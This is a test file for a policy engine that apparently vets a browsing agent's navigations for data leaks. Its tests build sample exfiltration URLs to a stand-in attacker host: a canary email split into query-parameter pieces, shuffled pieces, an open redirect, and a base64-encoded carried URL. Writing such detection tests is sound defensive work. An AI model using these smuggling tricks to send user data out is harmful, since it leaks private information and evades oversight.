/** Data split over URL parameters, and URLs carried inside a URL (open redirects): flows all the same. */
import { describe, expect, it } from 'vitest';
import { decide } from './decide';
import { newTaskState, noteSeen } from './task-state';
import { input, settings } from './test-helpers';
import type { Decision, PolicyInput } from './types';

const ATT = 'http://localhost:4101';
const BANK = 'https://bank.example';
const EMAIL = 'alice.canary@victim.example';
const codes = (d: Decision | undefined) => (d && d.verdict !== 'allow' ? d.reasons.map((r) => r.code) : []);

function expectFlow(i: PolicyInput, data: string) {
  const d = decide(i);
  if (d.verdict !== 'ask') throw new Error(`expected ask, got ${d.verdict}: ${d.reason}`);
  expect(d.ask.kind).toBe('high-risk');
  expect(d.reasons.map((r) => r.code)).toContain('carries-data');
  expect(d.ask.flows?.map((f) => f.data).join(' ')).toContain(data);
}

describe('pieces and carried URLs', () => {
  const bank = () =>
    noteSeen(newTaskState(`${BANK}/account`, 'tidy my notes'), `Contact ${EMAIL}.`, 'page', `${BANK}/`);
  const openBank = (url: string) =>
    input(
      'navigate',
      'act',
      { pageUrl: `${BANK}/account`, navigation: { url, via: 'navigate' } },
      { task: bank(), settings: settings({ sitePermissions: {} }) },
    );
  it('data in 4-letter pieces over query parameters joins up', () =>
    expectFlow(openBank(`${ATT}/s?a=alic&b=e.ca&c=nary&d=@vic&e=tim.&f=exam&g=ple`), EMAIL));
  it('pieces listed out of order join up by parameter name', () =>
    expectFlow(openBank(`${ATT}/s?c=nary&a=alic&g=ple&b=e.ca&e=tim.&d=@vic&f=exam`), EMAIL));
  it('a redirect on the data own site to another site is judged on the URL it carries', () =>
    expectFlow(openBank(`${BANK}/redirect?to=${encodeURIComponent(`${ATT}/r?e=${EMAIL}`)}`), EMAIL));
  it('a carried URL in base64 is found too', () =>
    expectFlow(openBank(`${BANK}/go?u=${btoa(`${ATT}/r?e=${EMAIL}`)}`), EMAIL));
  it('a link to the same site with an ordinary next= path is no flow', () => {
    const d = decide(openBank(`${BANK}/login?next=${encodeURIComponent('/account/settings')}`));
    expect(codes(d)).not.toContain('carries-data');
  });
});
